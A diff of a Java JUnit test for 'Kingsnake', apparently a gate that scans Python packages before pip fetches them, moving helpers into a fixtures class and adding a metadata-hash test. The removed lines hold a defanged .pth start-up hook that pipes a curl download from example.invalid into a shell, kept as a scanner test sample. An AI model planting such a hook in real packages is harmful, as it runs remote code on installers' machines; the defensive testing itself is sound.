@@ -1,9 +1,8 @@
 package dev.kingsnake.gate;
 
 import com.fasterxml.jackson.databind.JsonNode;
-import com.fasterxml.jackson.databind.ObjectMapper;
 import dev.kingsnake.Scanner;
-import dev.kingsnake.index.IndexClient;
+import dev.kingsnake.index.DistributionFile;
 import dev.kingsnake.index.ProjectPage;
 import dev.kingsnake.index.SimpleIndexParser;
 import org.junit.jupiter.api.AfterAll;
@@ -11,12 +10,12 @@ import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 
 import java.io.IOException;
-import java.io.Writer;
 import java.net.ServerSocket;
 import java.net.URI;
 import java.net.http.HttpClient;
 import java.net.http.HttpRequest;
 import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
@@ -32,7 +31,6 @@ import static org.junit.jupiter.api.Assertions.assertArrayEquals;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertNotEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
-import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 /**
  * The gate driven by the machine's real pip on loopback, in front of a {@link TestIndex}: defanged packages made
@@ -40,12 +38,9 @@ import static org.junit.jupiter.api.Assumptions.assumeTrue;
  * audit line, so a pip that fetched past the gate would fail the test. Skipped only where no pip exists.
  */
 class GatePipTest {
-    private static final ObjectMapper JSON = new ObjectMapper();
     private static final Duration OLD = Duration.ofDays(30);
-    /** A .pth start-up hook that would pipe a download into a shell (host under example.invalid: defanged). */
-    private static final String PTH_HOOK = "import os, subprocess; subprocess.Popen([\"sh\", \"-c\", "
-            + "\"curl -s http://example.invalid/b.sh | sh\"]) if not os.environ.get(\"DEMO_OFF\") else None\n";
-    private static final String BENIGN_CODE = "def add(a, b):\n    return a + b\n";
+    private static final String PTH_HOOK = GateFixtures.PTH_HOOK;
+    private static final String BENIGN_CODE = GateFixtures.BENIGN_CODE;
 
     private static Path dir;
     private static Pip pip;
@@ -57,53 +52,34 @@ class GatePipTest {
     @BeforeAll
     static void start() throws Exception {
         dir = Files.createTempDirectory("kingsnake-gate-test");
-        Optional<Pip> found = Pip.find(dir);
-        assumeTrue(found.isPresent(), "no pip on this machine (python3 -m pip): the gate's pip tests are skipped");
-        pip = found.get();
-        scanner = Scanner.builder().rules(Scanner.loadRules().stream()
-                .filter(r -> !r.info().id().startsWith("KS-TEST")).toList()).build();
+        pip = GateFixtures.pipOrSkip(dir);
+        scanner = Scanner.builder().rules(GateFixtures.shippedRules()).build();
         upstream = new TestIndex().root("public", false, Duration.ZERO).root("private", true, Duration.ZERO)
                 .root("slow", false, Duration.ofSeconds(5));
-        auditFile = dir.resolve("audit.jsonl");
+        auditFile = GateFixtures.auditFile(dir, "main");
         Path policy = dir.resolve("policy.toml");
         // the private index speaks HTML, which has no upload times: let those through the cooldown
         Files.writeString(policy, "min-age = \"3d\"\nunknown-upload-time = \"serve\"\n");
         gate = GateServer.start(config(upstream.simple("public"), Optional.of(upstream.simple("private")),
-                GatePolicy.parse(Files.readString(policy)), "main", Duration.ofSeconds(10),
-                Files.newBufferedWriter(auditFile)));
+                GatePolicy.parse(Files.readString(policy)), "main", Duration.ofSeconds(10)));
     }
 
     @AfterAll
     static void stop() throws Exception {
-        if (gate != null) {
-            gate.close();
-        }
-        if (upstream != null) {
-            upstream.close();
-        }
+        GateFixtures.stop(gate, upstream);
     }
 
     private static GateServer.Config config(URI up, Optional<URI> privateUp, GatePolicy policy, String name,
-                                            Duration upstreamTimeout, Writer audit) {
-        return new GateServer.Config("127.0.0.1", 0, up, privateUp, policy,
-                "jdbc:sqlite:" + dir.resolve(name + ".db"), dir.resolve(name + "-cache"), audit, scanner,
-                "test-rules", new IndexClient.Settings(Duration.ofSeconds(2), upstreamTimeout, 1, Duration.ofMillis(50),
-                1L << 30), 2, Duration.ofSeconds(60), Duration.ofSeconds(5), Duration.ofSeconds(30));
+                                            Duration upstreamTimeout) throws IOException {
+        return GateFixtures.config(dir, name, up, privateUp, policy, scanner, upstreamTimeout, Duration.ofSeconds(30));
     }
 
     private static String index(GateServer g) {
-        return "http://127.0.0.1:" + g.port() + "/simple/";
+        return GateFixtures.index(g);
     }
 
     private static List<JsonNode> audit(Path file, String filename) throws IOException {
-        List<JsonNode> out = new ArrayList<>();
-        for (String line : Files.readAllLines(file)) {
-            JsonNode n = JSON.readTree(line);
-            if (n.path("file").asText().equals(filename)) {
-                out.add(n);
-            }
-        }
-        return out;
+        return GateFixtures.audit(file, filename);
     }
 
     private static Path newDir(String name) throws IOException {
@@ -232,6 +208,33 @@ class GatePipTest {
     }
 
     @Test
+    void coreMetadataIsPassedOnWithItsHashChecked() throws Exception {
+        String name = TestIndex.wheelName("meta-demo", "1.0");
+        String liar = TestIndex.wheelName("meta-demo", "1.1");
+        upstream.add("public", "meta-demo", name, TestIndex.wheel("meta-demo", "1.0", Map.of()), OLD);
+        upstream.add("public", "meta-demo", liar, TestIndex.wheel("meta-demo", "1.1", Map.of()), OLD);
+        byte[] metadata = "Metadata-Version: 2.1\nName: meta-demo\nVersion: 1.0\n".getBytes(StandardCharsets.UTF_8);
+        upstream.addMetadata(name, metadata, TestIndex.sha256(metadata));
+        upstream.addMetadata(liar, metadata, "0".repeat(64));
+        HttpClient http = HttpClient.newHttpClient();
+        HttpResponse<String> page = http.send(HttpRequest.newBuilder(URI.create(index(gate) + "meta-demo/"))
+                .header("Accept", SimpleIndexParser.JSON_TYPE).build(), HttpResponse.BodyHandlers.ofString());
+        ProjectPage parsed = SimpleIndexParser.parse(SimpleIndexParser.JSON_TYPE, page.body(),
+                URI.create(index(gate) + "meta-demo/"), "meta-demo");
+        DistributionFile listed = parsed.file(name).orElseThrow();
+        assertEquals(Optional.of(Map.of("sha256", TestIndex.sha256(metadata))), listed.coreMetadata());
+        HttpResponse<byte[]> served = http.send(HttpRequest.newBuilder(listed.coreMetadataUrl().orElseThrow()).build(),
+                HttpResponse.BodyHandlers.ofByteArray());
+        assertEquals(200, served.statusCode());
+        assertArrayEquals(metadata, served.body());
+        HttpResponse<String> lying = http.send(HttpRequest.newBuilder(
+                parsed.file(liar).orElseThrow().coreMetadataUrl().orElseThrow()).build(),
+                HttpResponse.BodyHandlers.ofString());
+        assertEquals(502, lying.statusCode());
+        assertTrue(lying.body().contains("does not match its index"), lying.body());
+    }
+
+    @Test
     void aFileThatDoesNotMatchItsIndexHashIsRefused() throws Exception {
         String name = TestIndex.wheelName("liar-demo", "1.0");
         byte[] bytes = TestIndex.wheel("liar-demo", "1.0", Map.of("liar_demo/__init__.py", BENIGN_CODE));
@@ -298,8 +301,7 @@ class GatePipTest {
         long start = System.nanoTime();
         // pip reports a failed index page only with -vv ("Could not fetch URL ... - skipping"), a failed file always
         try (GateServer down = GateServer.start(config(URI.create("http://127.0.0.1:" + closedPort + "/simple/"),
-                Optional.empty(), GatePolicy.defaults(), "down", Duration.ofSeconds(1),
-                Files.newBufferedWriter(dir.resolve("down-audit.jsonl"))))) {
+                Optional.empty(), GatePolicy.defaults(), "down", Duration.ofSeconds(1)))) {
             Pip.Run run = pip.run(index(down), "download", "-vv", "--no-deps", "-d", newDir("down").toString(), "anything");
             assertNotEquals(0, run.exit());
             assertTrue(run.output().contains("502 Server Error: Kingsnake gate: upstream index failed: connection refused"),
@@ -310,11 +312,9 @@ class GatePipTest {
         upstream.add("public", new TestIndex.Listed("sluggish-demo", name, bytes, TestIndex.sha256(bytes),
                 java.time.Instant.now().minus(OLD), Optional.empty(), Duration.ofSeconds(5)));
         try (GateServer slowFiles = GateServer.start(config(upstream.simple("public"), Optional.empty(),
-                GatePolicy.defaults(), "slow-files", Duration.ofSeconds(1),
-                Files.newBufferedWriter(dir.resolve("slow-files-audit.jsonl"))));
+                GatePolicy.defaults(), "slow-files", Duration.ofSeconds(1)));
              GateServer slowPages = GateServer.start(config(upstream.simple("slow"), Optional.empty(),
-                     GatePolicy.defaults(), "slow-pages", Duration.ofSeconds(1),
-                     Files.newBufferedWriter(dir.resolve("slow-pages-audit.jsonl"))))) {
+                     GatePolicy.defaults(), "slow-pages", Duration.ofSeconds(1)))) {
             Pip.Run file = pip.run(index(slowFiles), "download", "--no-deps", "-d", newDir("slow").toString(),
                     "sluggish-demo==1.0");
             assertNotEquals(0, file.exit());
@@ -334,23 +334,23 @@ class GatePipTest {
         String name = TestIndex.wheelName("restart-demo", "1.0");
         byte[] bytes = TestIndex.wheel("restart-demo", "1.0", Map.of("restart_demo/__init__.py", BENIGN_CODE));
         upstream.add("public", "restart-demo", name, bytes, OLD);
-        Path log = dir.resolve("restart-audit.jsonl");
+        Path log = GateFixtures.auditFile(dir, "restart");
         GatePolicy policy = GatePolicy.defaults();
         try (GateServer first = GateServer.start(config(upstream.simple("public"), Optional.empty(), policy, "restart",
-                Duration.ofSeconds(10), Files.newBufferedWriter(log)))) {
+                Duration.ofSeconds(10)))) {
             assertEquals(0, pip.run(index(first), "download", "--no-deps", "-d", newDir("restart-1").toString(),
                     "restart-demo==1.0").exit());
         }
         List<JsonNode> before = audit(log, name);
         assertEquals(List.of(false), before.stream().map(n -> n.path("cached_verdict").asBoolean()).toList());
-        Path log2 = dir.resolve("restart-audit-2.jsonl");
+        // the second gate starts a new audit file under the same name
         try (GateServer second = GateServer.start(config(upstream.simple("public"), Optional.empty(), policy, "restart",
-                Duration.ofSeconds(10), Files.newBufferedWriter(log2)))) {
+                Duration.ofSeconds(10)))) {
             Pip.Run run = pip.run(index(second), "download", "--no-deps", "-d", newDir("restart-2").toString(),
                     "restart-demo==1.0");
             assertEquals(0, run.exit(), run.output());
         }
-        JsonNode after = audit(log2, name).get(0);
+        JsonNode after = audit(log, name).get(0);
         assertTrue(after.path("cached_verdict").asBoolean(), after.toString());
         assertEquals(before.get(0).path("scanned_at").asText(), after.path("scanned_at").asText());
         assertArrayEquals(bytes, Files.readAllBytes(dir.resolve("restart-2").resolve(name)));
